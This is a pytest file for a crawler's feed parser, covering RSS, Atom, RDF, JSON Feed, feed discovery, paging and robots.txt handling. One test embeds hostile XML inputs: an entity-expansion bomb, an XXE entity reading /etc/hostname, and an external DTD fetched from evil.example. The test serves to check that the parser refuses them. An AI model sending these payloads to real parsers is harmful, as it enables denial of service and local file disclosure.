"""Feeds of every format: golden ones, damaged ones, hostile ones, and how a site's feeds are found."""

from __future__ import annotations

import contextlib
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from scrapy.http import TextResponse

from crawler.archive import Archive
from crawler.feeds import Feed, FeedError, read_feed
from crawler.feeds.dates import feed_date
from crawler.items import Post
from crawler.sources import SourceTarget
from crawler.spiders import feed as feed_spider
from tests.crawler.sources.driver import Driven, drive
from tests.crawler.sources.scripted import Heard, Said, fetch, scripted

URL = "https://acme.example/feed"
TARGET = SourceTarget("feed", "blog", account=URL)

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:atom="http://www.w3.org/2005/Atom" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
<channel><title>Acme</title><link>https://acme.example</link><language>es-MX</language>
<atom:link rel="self" href="https://acme.example/feed"/>
<item>
  <title>Envíos en 24&nbsp;h 🚚</title><itunes:title>Not this one</itunes:title>
  <link>/blog/envios</link>
  <guid isPermaLink="false">https://acme.example/?p=7</guid>
  <pubDate>Tue, 04 Mar 2025 09:30:00 -0600</pubDate>
  <description>Un resumen</description>
  <content:encoded><![CDATA[<style>p{}</style><figure><figcaption>La flota</figcaption></figure><p>Entregamos en
 24 horas, &amp; sin costo.</p><script>track()</script>]]></content:encoded>
</item>
<item><guid>17</guid><title>Support, day &amp; night</title><description>We answer in &lt;b&gt;one hour&lt;/b&gt;.</description>
  <pubDate>Wed, 05 Mar 2025 10:00:00 CEST</pubDate></item>
<item><guid>18</guid><enclosure url="https://acme.example/a.mp3" type="audio/mpeg" length="1"/></item>
</channel></rss>
<!-- cached page -->"""

ATOM = """<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en" xml:base="https://acme.example/news/">
<title>News</title>
<entry><id>tag:acme.example,2025:1</id><title type="html">Free &lt;i&gt;returns&lt;/i&gt;</title>
  <link rel="edit" href="edit/1"/><link rel="alternate" type="text/html" href="returns"/>
  <published>2025-02-01T08:00:00Z</published><updated>2025-02-03T08:00:00+01:00</updated>
  <summary>Short.</summary>
  <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Send it back within <b>30 days</b>.</p><p>No questions.</p></div></content></entry>
<entry><id>tag:acme.example,2025:2</id><title>Less than</title><updated>2025-02-03T08:00:00+99:00</updated>
  <content type="text">We promise a &lt;b&gt; b &amp; no fees</content></entry>
</feed>"""

RDF = """<?xml version="1.0" encoding="iso-8859-1"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
  xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://acme.example"><title>Acme</title></channel>
<item rdf:about="https://acme.example/1"><title>Garantía</title><link>https://acme.example/1</link>
  <description>Dos años de garantía</description><dc:date>2025-01-02</dc:date></item></rdf:RDF>"""

OLD = """<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><item><title>Caf&eacute; gratis</title><link>http://acme.example/cafe</link></item></channel></rss>"""

JSON: dict[str, Any] = {
    "version": "https://jsonfeed.org/version/1.1",
    "language": "es",
    "items": [
        {"id": 3, "url": "/tres", "title": "Sin letra chica", "content_html": "<p>Lo que ve es lo que paga.</p>",
         "date_published": "2025-05-06T07:08:09-06:00"},
        {"id": "https://acme.example/4", "content_text": "Opens at 7 < 8 👍", "date_published": "soon"},
        {"id": "https://acme.example/5", "attachments": [{"url": "https://acme.example/a.mp3"}]},
        "rubbish",
    ],
}  # fmt: skip


def said(text: str | bytes, kind: str = "application/xml", status: int = 200) -> Said:
    body = text.encode() if isinstance(text, str) else text
    return Said(body, status, {"Content-Type": kind})


def read(text: str | bytes | dict[str, Any]) -> Driven:
    answer = Said(text) if isinstance(text, dict) else said(text)
    return drive(TARGET, {"/feed": answer})


def words(driven: Driven) -> list[str]:
    return [kept.text for kept in driven.kept]


def test_rss_gives_posts_with_whole_content_date_link_and_id() -> None:
    driven = read(RSS)
    assert not driven.problems
    first, second = driven.kept
    assert isinstance(first, Post)
    assert isinstance(second, Post)
    assert first.text == "Envíos en 24 h 🚚. La flota\n\nEntregamos en\n 24 horas, & sin costo."
    assert first.record_id == "https://acme.example/?p=7"
    assert first.link == "https://acme.example/blog/envios"
    assert first.since == datetime(2025, 3, 4, 15, 30, tzinfo=UTC)
    assert first.channel == "feed"
    assert second.text == "Support, day & night. We answer in one hour."
    assert second.record_id == f"{URL}#17"
    assert second.since == datetime(2025, 3, 5, 8, tzinfo=UTC)
    assert driven.raw[0].language == "es-MX"


def test_atom_gives_content_over_summary_links_by_base_and_the_first_date() -> None:
    first, second = read(ATOM).kept
    assert first.text == "Free returns. Send it back within 30 days.\nNo questions."
    assert first.link == "https://acme.example/news/returns"
    assert first.since == datetime(2025, 2, 1, 8, tzinfo=UTC)
    assert second.text == "Less than. We promise a <b> b & no fees"
    assert second.since == datetime(2025, 2, 3, 8, tzinfo=UTC)  # the zone is none: taken as UTC


def test_rdf_in_its_declared_encoding_and_in_utf_8_that_says_latin_1() -> None:
    for encoding in ("iso-8859-1", "utf-8"):
        (kept,) = read(RDF.encode(encoding)).kept
        assert kept.text == "Garantía. Dos años de garantía"
        assert kept.record_id == kept.link == "https://acme.example/1"
        assert kept.since == datetime(2025, 1, 2, tzinfo=UTC)


def test_an_old_feed_keeps_its_named_characters_and_its_dtd_is_not_fetched() -> None:
    driven = read(OLD)
    assert words(driven) == ["Café gratis"]
    assert [heard.path for heard in driven.heard] == ["/feed"]


def test_json_feed() -> None:
    driven = read(JSON)
    assert words(driven) == ["Sin letra chica. Lo que ve es lo que paga.", "Opens at 7 < 8 👍"]
    assert [record.record_id for record in driven.raw] == [f"{URL}#3", "https://acme.example/4"]
    assert [record.link for record in driven.raw] == ["https://acme.example/tres", ""]
    assert driven.raw[0].date == datetime(2025, 5, 6, 13, 8, 9, tzinfo=UTC)
    assert driven.raw[1].date is None


def test_an_empty_feed_is_no_problem() -> None:
    for text in (
        '<rss version="2.0"><channel/></rss>',
        '<?xml version="1.0"?>\n<feed xmlns="http://www.w3.org/2005/Atom"/>',
    ):
        driven = read(text)
        assert not driven.raw
        assert not driven.problems
    assert not read({"version": "https://jsonfeed.org/version/1", "items": []}).problems


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><rss><channel><item><title>&b;</title></item></channel></rss>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]><rss><channel><item><title>&x;</title></item></channel></rss>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
    ],
)
def test_entities_of_its_own_are_refused(text: str) -> None:
    driven = read(text)
    assert not driven.raw
    assert driven.problems == [
        "acme.example/feed is no feed that can be read: it declares entities of its own, which no feed needs"
    ]


def test_an_entity_declared_after_the_root_means_nothing() -> None:
    text = (
        '<rss><!DOCTYPE x [<!ENTITY a "secret">]><channel><item><title>A&a;B</title></item></channel></rss>'
    )
    assert "secret" not in repr(read_feed(text.encode(), URL))


def test_a_feed_cut_short_keeps_what_came_and_says_so() -> None:
    driven = read(RSS[: RSS.index("<item><guid>18")])
    assert len(driven.raw) == 2
    assert driven.problems == ["acme.example/feed broke off: 2 entries of it were read"]
    cut = read(Said({"version": "https://jsonfeed.org/version/1"}).data()[:-4])
    assert "no JSON, or was cut short" in cut.problems[0]


def test_depth_numbers_and_controls_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    deep = read("<rss><channel><item><title>x</title><description>" + "<a>" * 5000)
    assert "broke off" in deep.problems[0]
    assert "no JSON" in read("[" * 100_000).problems[0]
    assert words(read("<rss><channel><item><title>a\x0bb\x00c</title></item></channel></rss>")) == ["abc"]
    monkeypatch.setattr("crawler.feeds.xml_feed.MAX_ENTRIES", 2)
    many = read("<rss><channel>" + "<item><title>x</title></item>" * 5 + "</channel></rss>")
    assert len(many.raw) == 2
    assert "broke off" in many.problems[0]


def test_long_ids_stay_apart_and_ids_are_the_same_in_every_pass() -> None:
    one, two = (f"https://acme.example/{'x' * 300}{end}" for end in "12")
    items = "".join(f"<item><guid>{guid}</guid><title>t</title></item>" for guid in (one, two))
    feed = f"<rss><channel>{items}<item><title>no id</title></item></channel></rss>"
    names = [kept.record_id for kept in read(feed).kept]
    assert len(set(names)) == 3
    assert names == [kept.record_id for kept in read(feed).kept]


PAGE = """<!doctype html><html><head><base href="https://acme.example/es/">
<link rel="alternate" type="application/rss+xml" title="Acme" href="feed">
<link rel="alternate" type="application/rss+xml" title="Acme » Comentarios" href="comments/feed">
<link rel="alternate" type="application/json" href="/wp-json/wp/v2/pages/2">
<link rel="alternate" type="application/atom+xml" href="/atom"><link rel="stylesheet" href="x.css">
<link rel="alternate" hreflang="en" href="/en/"></head><body>Hola</body></html>"""


def test_a_sites_feeds_are_found_comments_left_out_and_each_entry_kept_once() -> None:
    same = ATOM.replace('href="returns"', 'href="/blog/envios"')
    site = SourceTarget("feed", "blog", account="acme.example")
    driven = drive(
        site, {"": said(PAGE, "text/html; charset=utf-8"), "/es/feed": said(RSS), "/atom": said(same)}
    )
    assert [heard.path for heard in driven.heard] == ["", "/es/feed", "/atom"]
    assert [record.title for record in driven.raw] == [
        "Envíos en 24\xa0h 🚚", "Support, day & night", "Less than"
    ]  # fmt: skip
    assert not driven.problems


def test_a_page_without_feeds_and_a_page_in_a_feeds_place() -> None:
    page = said("<html><head><title>Acme</title></head></html>", "text/html")
    assert "names no feed" in drive(TARGET, {"/feed": page}).problems[0]
    site = SourceTarget("feed", "blog", account="https://acme.example/es/")
    driven = drive(site, lambda heard: said(PAGE, "text/html"))
    assert "neither RSS nor Atom" in driven.problems[0]
    assert len(driven.heard) == 3  # a page found as a feed is not searched again


def page_of(number: int, following: str) -> Said:
    return said(
        f'<feed xmlns="http://www.w3.org/2005/Atom"><link rel="next" href="{following}"/>'
        f"<entry><id>urn:{number}</id><title>{number}</title></entry></feed>"
    )


def test_pages_are_turned_on_the_same_host_only() -> None:
    pages = {"/feed": page_of(1, "/feed2"), "/feed2": page_of(2, "https://other.example/feed3")}
    driven = drive(TARGET, pages)
    assert [record.record_id for record in driven.raw] == ["urn:1", "urn:2"]
    assert not driven.problems
    following: dict[str, Any] = JSON | {"next_url": "/two"}
    driven = drive(TARGET, {"/feed": Said(following), "/two": Said(JSON | {"items": []})})
    assert [heard.path for heard in driven.heard] == ["/feed", "/two"]


def test_paging_without_end_is_told() -> None:
    assert "no end" in drive(TARGET, {"/feed": page_of(1, "/feed")}).problems[0]

    def endless(heard: Heard) -> Said:
        number = int(heard.query.get("page", "1")) + 1
        return page_of(number, f"/feed?page={number}")

    driven = drive(TARGET, endless)
    assert len(driven.heard) == feed_spider.MAX_PAGES
    assert "more than 100 pages" in driven.problems[0]


def test_a_limit_stops_the_reading() -> None:
    target = SourceTarget("feed", "blog", account=URL, limit=1)
    driven = drive(target, {"/feed": page_of(1, "/feed2"), "/feed2": page_of(2, "")})
    assert len(driven.raw) == 1
    assert len(driven.heard) == 1


@pytest.mark.parametrize(
    ("status", "told"),
    [(404, "no feed (404)"), (403, "not let everyone"), (429, "too many"), (500, "answered 500")],
)
def test_a_server_that_does_not_give_it(status: int, told: str) -> None:
    assert told in drive(TARGET, {"/feed": said("no", "text/html", status)}).problems[0]


def test_an_address_that_is_none() -> None:
    for account in ("ftp://acme.example/feed", "https://user:pass@acme.example/", "https://[::"):
        driven = drive(SourceTarget("feed", "blog", account=account), {})
        assert not driven.heard
        assert "give the address" in driven.problems[0]
        assert "pass@" not in driven.problems[0]


def test_dates_of_feeds() -> None:
    at = datetime(2025, 3, 4, 15, 30, tzinfo=UTC)
    for text in (
        "Tue, 04 Mar 2025 15:30:00 GMT", "Tue, 4 Mar 2025 15:30 +0000", "2025-03-04T15:30:00.000Z",
        "2025-03-04T09:30:00-06:00", "Tue, 04 Mar 2025 15:30:00 +9900", "mar, 04 mar 2025 15:30:00",
    ):  # fmt: skip
        assert feed_date(text) == at, text
    assert feed_date("yesterday") is None


def test_over_http_redirects_are_followed_and_robots_txt_is_obeyed(tmp_path: Path) -> None:
    archive_url = str(tmp_path / "archive.db")
    with scripted() as server:
        target = SourceTarget("feed", "blog", account=f"{server.url}/rss")
        server.routes = {"/rss": Said(b"", 301, {"Location": "/feed"}), "/feed": said(RSS)}
        outcome, _ = fetch(target, archive_url, datetime.now(UTC))
        assert outcome.problems == ()
        server.routes["/robots.txt"] = said("User-agent: *\nDisallow: /feed", "text/plain")
        server.routes["/feed"] = said(RSS.replace("one hour", "two hours"))
        outcome, _ = fetch(target, archive_url, datetime.now(UTC))
        assert "robots.txt forbids it" in outcome.problems[0]
        with Archive.open(archive_url) as archive:  # what the pass before gave stays
            assert [post.text[-9:] for post in archive.posts(["blog"])] == ["in costo.", "one hour."]


@given(st.one_of(st.text(), st.binary(), st.text(alphabet="<>/&;[]!-? ErsdocTYPEitemtilnk\"'=")))
def test_any_text_is_a_feed_or_a_feed_error(text: str | bytes) -> None:
    body = text.encode("utf-8", "replace") if isinstance(text, str) else text
    with contextlib.suppress(FeedError):
        assert isinstance(read_feed(body, URL), Feed)


@given(st.sampled_from([RSS, ATOM, RDF, OLD]), st.data())
def test_a_feed_cut_anywhere_invents_nothing(text: str, data: st.DataObject) -> None:
    whole = read_feed(text.encode(), URL)
    try:
        part = read_feed(text[: data.draw(st.integers(0, len(text)))].encode(), URL)
    except FeedError:
        return
    assert len(part.entries) <= len(whole.entries)
    for entry, full in zip(part.entries[:-1], whole.entries, strict=False):
        assert entry == full


def test_a_protected_post_is_not_read_as_its_password_form() -> None:
    form = '<form class="post-password-form"><p>To view it please enter your password below:</p></form>'
    item = f"<item><title>Protected: Prices</title><description><![CDATA[{form}]]></description></item>"
    assert not read(f"<rss><channel>{item}</channel></rss>").raw


@pytest.mark.parametrize(("flag", "told"), [("partial", 0), ("download_stopped", 1)])
def test_a_whole_feed_that_ends_with_its_connection_is_whole(flag: str, told: int) -> None:
    spider: Any = drive(TARGET, {}).spider
    spider.problems.clear()
    response = TextResponse(URL, body=RSS.encode(), flags=[flag])
    list(spider.page(response, response, URL, 1))
    assert len(spider.problems) == told
